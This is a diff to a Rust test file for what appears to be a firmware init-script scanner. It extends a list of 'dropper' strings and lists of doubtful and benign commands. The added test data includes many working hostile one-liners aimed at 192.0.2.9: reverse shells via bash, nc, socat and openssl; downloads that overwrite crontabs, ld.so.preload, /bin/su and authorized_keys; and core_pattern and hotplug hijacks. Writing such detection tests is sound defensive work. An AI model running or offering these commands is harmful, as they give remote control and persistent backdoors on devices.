@@ -59,6 +59,34 @@ const DROPPERS: &[&str] = &[
     "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 99 >/tmp/f",
     "bash -i >& /dev/tcp/192.0.2.9/99 0>&1",
     "socat TCP:192.0.2.9:99 EXEC:/bin/sh",
+    // Over what starts, or lets somebody in.
+    "wget http://192.0.2.9/x -O /etc/crontabs/root",
+    "wget http://192.0.2.9/x -O /etc/rc.local",
+    "wget http://192.0.2.9/x -O /etc/ld.so.preload",
+    "wget http://192.0.2.9/x -O /bin/su",
+    "wget -qO- http://192.0.2.9/x > /etc/init.d/rcS",
+    "wget -qO- http://192.0.2.9/x | tar xz -C /",
+    "curl -o /root/.ssh/authorized_keys http://192.0.2.9/x",
+    "wget http://192.0.2.9/x -O /data/x; busybox install -m 755 /data/x /usr/bin/y; y",
+    "scp u@192.0.2.9:/x /data/y; /data/y",
+    // By other programs than those that fetch files.
+    "openssl s_client -connect 192.0.2.9:4444 | sh",
+    "ssl_client 192.0.2.9 | sh",
+    "socat - TCP:192.0.2.9:4444 | sh",
+    "mosquitto_sub -h 192.0.2.9 -t x | sh",
+    "ssh u@192.0.2.9 cat x | sh",
+    "mkfifo /tmp/f; sh -i </tmp/f | openssl s_client -quiet -connect 192.0.2.9:1 >/tmp/f",
+    // Started by something else.
+    "unshare -n /tmp/y",
+    "chroot /tmp/r /x",
+    "find / -exec /tmp/fx {} +",
+    "ip netns exec x /tmp/y",
+    "awk -f /tmp/e.awk",
+    "trap /tmp/x EXIT",
+    "script -c /tmp/x /dev/null",
+    "echo /tmp/x >/proc/sys/kernel/hotplug",
+    "sysctl -w kernel.core_pattern=/tmp/evil",
+    "sysctl -w 'kernel.core_pattern=|/tmp/evil %p'",
 ];
 
 #[test]
@@ -107,6 +135,11 @@ fn what_firmwares_do_is_doubtful_at_most() {
         "tar xzf /usr/share/app.tgz -C /tmp\n/tmp/app/run",
         "cp /lib/modules/x.ko /tmp/x.ko; insmod /tmp/x.ko",
         "echo 'A=1' > /tmp/env; . /tmp/env",
+        "LD_LIBRARY_PATH=/tmp/lib /usr/bin/x",
+        "PATH=/tmp/bin:$PATH; foo",
+        "export LD_PRELOAD=/usr/lib/x.so",
+        "ssh -R 9527:127.0.0.1:22 u@192.0.2.9",
+        "dbclient -N -R 9527:127.0.0.1:22 u@192.0.2.9",
     ] {
         assert_eq!(certain("/etc/init.d/S50x", text), [false], "{text}");
     }
@@ -122,10 +155,18 @@ fn what_firmwares_do_is_doubtful_at_most() {
         "case $1 in\n/tmp/*) echo x ;;\nesac",
         "start-stop-daemon -K -x /tmp/x",
         "sh /tmp/sd/x.sh",
-        "echo /tmp/x >/proc/sys/kernel/hotplug",
+        "echo /sbin/mdev >/proc/sys/kernel/hotplug",
+        "sysctl -w kernel.core_pattern=core",
+        "trap - EXIT",
+        "trap 'rm -f /tmp/x' EXIT",
+        "find /tmp -name x -exec rm {} +",
+        "openssl dgst -sha256 /x | cut -c1-8",
+        "socat - UNIX:/run/x | sh",
+        "scp /var/log/x u@192.0.2.9:/x",
+        "ssh u@192.0.2.9 x >/var/log/x",
+        "export PATH=/usr/bin:/bin",
         "mkdir -p /tmp/x /var/run; [ -x /tmp/x ] || echo no",
         "/usr/sbin/daemon -c /tmp/daemon.conf",
-        "LD_LIBRARY_PATH=/tmp/lib /usr/bin/x",
     ] {
         assert!(
             certain("/etc/init.d/S50x", text).is_empty(),
